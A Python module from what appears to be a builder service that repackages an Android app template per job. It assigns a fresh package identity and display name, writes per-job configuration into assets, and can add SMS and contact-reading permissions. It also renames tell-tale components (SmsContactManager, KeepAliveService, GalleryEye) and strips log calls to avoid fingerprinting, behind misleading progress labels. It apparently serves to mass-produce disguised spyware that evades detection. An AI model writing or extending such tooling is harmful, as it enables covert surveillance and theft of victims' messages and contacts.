"""
Mutation Service.

Rewrites a decoded working tree so the rebuilt APK carries its own package
identity, launcher label, per-install configuration and permissions, and
fewer recognizable internal names.

Steps run in a fixed order; later steps assume the earlier ones already ran:

1. identity rename      (fatal on error)
2. display name         (no-op when the resource tag is absent)
3. payload injection    (fatal on error)
4. permission injection (skipped when the manifest anchor is absent)
5. cosmetic obfuscation (best-effort, per-file failures become warnings)
"""

from __future__ import annotations

import asyncio
import random
import re
import string
import time
from collections.abc import Awaitable, Callable
from pathlib import Path
from xml.sax.saxutils import escape

from pydantic import BaseModel, Field

from ...core.config import TemplateConfig
from ...core.exceptions import ServiceError
from ...core.logging import get_logger
from ...core.types import ServiceResult
from ...models.job import Job, PayloadConfig
from ...storage import ScratchArea

logger = get_logger(__name__)

StepCallback = Callable[[str, int], Awaitable[None]]

# Component names that make the template easy to fingerprint
RENAME_TABLE: dict[str, str] = {
    "SocketManager": "CloudService",
    "SmsContactManager": "DataHelper",
    "DataSyncHelper": "SyncUtil",
    "KeepAliveService": "AppService",
    "GalleryEye": "MediaApp",
    "galleryeye": "mediaapp",
}

LOG_CALL_PATTERNS: tuple[re.Pattern[str], ...] = tuple(
    re.compile(rf"invoke-static \{{[^}}]*\}}, Landroid/util/Log;->{level}\([^)]*\)I")
    for level in ("d", "e", "i")
)
LOG_REMOVED = "# log removed"

OPTIONAL_PERMISSIONS: dict[str, str] = {
    "enable_sms_permission": "android.permission.READ_SMS",
    "enable_contacts_permission": "android.permission.READ_CONTACTS",
}

# Files that can reference the package identity in text form
_TEXT_SUFFIXES = {".xml", ".smali", ".yml", ".yaml", ".json", ".properties", ".txt"}

_LETTERS = string.ascii_lowercase


class MutationOutput(BaseModel):
    """Result of mutating one working tree."""

    package_name: str = Field(description="Identity written into the tree")
    renamed_files: int = Field(default=0, description="Files touched by the identity rename")
    display_name_applied: bool = Field(default=False)
    permissions_added: list[str] = Field(default_factory=list)
    obfuscated_files: int = Field(default=0)


def _read(path: Path) -> str:
    return path.read_text(encoding="utf-8", errors="surrogateescape")


def _write(path: Path, content: str) -> None:
    path.write_text(content, encoding="utf-8", errors="surrogateescape")


def apply_rename_table(text: str) -> str:
    for old, new in RENAME_TABLE.items():
        text = text.replace(old, new)
    return text


def strip_log_calls(text: str) -> str:
    for pattern in LOG_CALL_PATTERNS:
        text = pattern.sub(LOG_REMOVED, text)
    return text


def escape_string_resource(value: str) -> str:
    """Escape a value for use inside an Android ``<string>`` element."""
    return escape(value).replace("'", "\\'").replace('"', '\\"')


class Mutator:
    """Service that customizes a decoded template tree for one job."""

    def __init__(
        self,
        template: TemplateConfig,
        scratch: ScratchArea,
        rng: random.Random | None = None,
    ) -> None:
        """Initialize the mutator.

        Args:
            template: Facts about the template (stock identity, anchors, defaults)
            scratch: Scratch area used for asynchronous writes
            rng: Random source for identity generation
        """
        self.template = template
        self.scratch = scratch
        self.rng = rng or random.Random()

    # ------------------------------------------------------------------
    # identity
    # ------------------------------------------------------------------
    def generate_package_name(self, app_name: str | None) -> str:
        """Build a fresh ``com.<name>.<suffix>`` identity.

        Android package segments must start with a letter, so only letters of
        the app name are kept. The result is passed through the obfuscation
        table so step 5 cannot rewrite it into something else later.
        """
        clean = re.sub(r"[^a-z]", "", (app_name or "app").lower())
        if len(clean) < 3:
            clean = "gallery"

        stock = self.template.stock_package
        for _ in range(16):
            suffix = "".join(self.rng.choice(_LETTERS) for _ in range(4))
            candidate = apply_rename_table(f"com.{clean}.{suffix}")
            if stock not in candidate and candidate != stock:
                return candidate
        raise ServiceError(
            message="Could not generate an identity distinct from the stock package",
            service_name="mutation",
            operation="generate_package_name",
        )

    def _identity_files(self, work_dir: Path) -> list[Path]:
        return sorted(
            p for p in work_dir.rglob("*")
            if p.is_file() and p.suffix.lower() in _TEXT_SUFFIXES
            and "original" not in p.relative_to(work_dir).parts[:1]
        )

    def rename_identity(self, work_dir: Path, new_package: str) -> int:
        """Replace the stock identity in dotted and slash forms everywhere.

        Returns:
            Number of files rewritten.

        Raises:
            ServiceError: If any file cannot be rewritten; a partial rename
                would produce an APK that references a missing package.
        """
        old_dotted = self.template.stock_package
        old_path = old_dotted.replace(".", "/")
        new_path = new_package.replace(".", "/")

        changed = 0
        for path in self._identity_files(work_dir):
            try:
                content = _read(path)
                if old_dotted not in content and old_path not in content:
                    continue
                content = content.replace(old_path, new_path).replace(old_dotted, new_package)
                _write(path, content)
                changed += 1
            except OSError as e:
                raise ServiceError(
                    message=f"Identity rename failed for {path.relative_to(work_dir)}",
                    service_name="mutation",
                    operation="rename_identity",
                    cause=e,
                )

        logger.info("Package renamed", old=old_dotted, new=new_package, files=changed)
        return changed

    # ------------------------------------------------------------------
    # display name
    # ------------------------------------------------------------------
    def set_display_name(self, work_dir: Path, app_name: str) -> bool:
        """Replace the first launcher-label string resource.

        Returns:
            True if the resource was found and rewritten.
        """
        strings_path = work_dir / "res" / "values" / "strings.xml"
        if not strings_path.is_file():
            return False

        resource = re.escape(self.template.display_name_resource)
        pattern = re.compile(rf'<string name="{resource}">.*?</string>')
        content = _read(strings_path)
        replacement = f'<string name="{self.template.display_name_resource}">{escape_string_resource(app_name)}</string>'
        updated, count = pattern.subn(lambda _m: replacement, content, count=1)
        if not count:
            return False

        _write(strings_path, updated)
        return True

    # ------------------------------------------------------------------
    # payload
    # ------------------------------------------------------------------
    async def inject_payload(self, work_dir: Path, job: Job) -> None:
        """Write the job id and runtime configuration into ``assets/``.

        Raises:
            ServiceError: The shipped app has no other way to learn its
                configuration, so any write failure aborts the job.
        """
        assets_dir = work_dir / "assets"
        payload = PayloadConfig.from_job(job, self.template.default_app_name)
        try:
            await self.scratch.write_text(assets_dir / "uuid.txt", job.job_id)
            await self.scratch.write_text(assets_dir / "config.json", payload.to_json())
        except OSError as e:
            raise ServiceError(
                message=f"Failed to write payload config: {e}",
                service_name="mutation",
                operation="inject_payload",
                cause=e,
            )

    # ------------------------------------------------------------------
    # permissions
    # ------------------------------------------------------------------
    def inject_permissions(self, work_dir: Path, job: Job) -> list[str]:
        """Insert optional ``<uses-permission>`` declarations at the anchor.

        Returns:
            The permissions that were inserted.
        """
        requested = [perm for flag, perm in OPTIONAL_PERMISSIONS.items() if getattr(job, flag)]
        manifest_path = work_dir / "AndroidManifest.xml"
        if not requested or not manifest_path.is_file():
            return []

        content = _read(manifest_path)
        anchor = content.find(self.template.permission_anchor)
        if anchor == -1:
            logger.info("Permission anchor not found, skipping", requested=requested)
            return []

        block = "".join(f'    <uses-permission android:name="{perm}" />\n' for perm in requested)
        _write(manifest_path, content[:anchor] + block + content[anchor:])
        logger.info("Permissions injected", permissions=requested)
        return requested

    # ------------------------------------------------------------------
    # obfuscation
    # ------------------------------------------------------------------
    def obfuscate(self, work_dir: Path) -> tuple[int, list[str]]:
        """Apply the rename table and strip log calls.

        Smali files get both treatments; the manifest and resource XML get the
        rename table only, so component declarations keep pointing at the
        renamed classes.

        Returns:
            Tuple of (files rewritten, warnings for files left untouched).
        """
        targets: list[tuple[Path, bool]] = []
        for smali_root in sorted(work_dir.glob("smali*")):
            targets.extend((p, True) for p in sorted(smali_root.rglob("*.smali")))
        manifest = work_dir / "AndroidManifest.xml"
        if manifest.is_file():
            targets.append((manifest, False))
        res_dir = work_dir / "res"
        if res_dir.is_dir():
            targets.extend((p, False) for p in sorted(res_dir.rglob("*.xml")))

        changed = 0
        warnings: list[str] = []
        for path, is_smali in targets:
            try:
                original = _read(path)
                content = apply_rename_table(original)
                if is_smali:
                    content = strip_log_calls(content)
                if content != original:
                    _write(path, content)
                    changed += 1
            except Exception as e:
                warnings.append(f"obfuscation skipped {path.relative_to(work_dir)}: {e}")

        logger.info("Obfuscation applied", files=changed, skipped=len(warnings))
        return changed, warnings

    # ------------------------------------------------------------------
    # entry point
    # ------------------------------------------------------------------
    async def mutate(
        self,
        job: Job,
        work_dir: Path,
        on_step: StepCallback | None = None,
    ) -> ServiceResult[MutationOutput]:
        """Run all mutation steps in order.

        Args:
            job: The job being built
            work_dir: Its exclusive working tree
            on_step: Optional progress hook called with (label, percent)

        Returns:
            ServiceResult containing MutationOutput and non-fatal warnings

        Raises:
            ServiceError: On identity rename or payload injection failure
        """
        start_time = time.perf_counter()

        async def step(label: str, percent: int) -> None:
            if on_step is not None:
                await on_step(label, percent)

        await step("Configuring application manifest...", 30)
        package_name = self.generate_package_name(job.app_name)
        renamed = await asyncio.to_thread(self.rename_identity, work_dir, package_name)

        await step("Applying security enhancements...", 35)
        display_applied = False
        if job.app_name:
            display_applied = await asyncio.to_thread(self.set_display_name, work_dir, job.app_name)

        await step("Injecting unique user identity...", 45)
        await self.inject_payload(work_dir, job)
        permissions = await asyncio.to_thread(self.inject_permissions, work_dir, job)

        await step("Applying advanced protection...", 50)
        warnings: list[str] = []
        try:
            obfuscated, warnings = await asyncio.to_thread(self.obfuscate, work_dir)
        except Exception as e:
            obfuscated = 0
            warnings = [f"obfuscation aborted: {e}"]
            logger.warning("Obfuscation aborted", error=str(e))

        output = MutationOutput(
            package_name=package_name,
            renamed_files=renamed,
            display_name_applied=display_applied,
            permissions_added=permissions,
            obfuscated_files=obfuscated,
        )
        duration_ms = (time.perf_counter() - start_time) * 1000
        return ServiceResult.with_warnings(output, warnings, duration_ms=duration_ms)
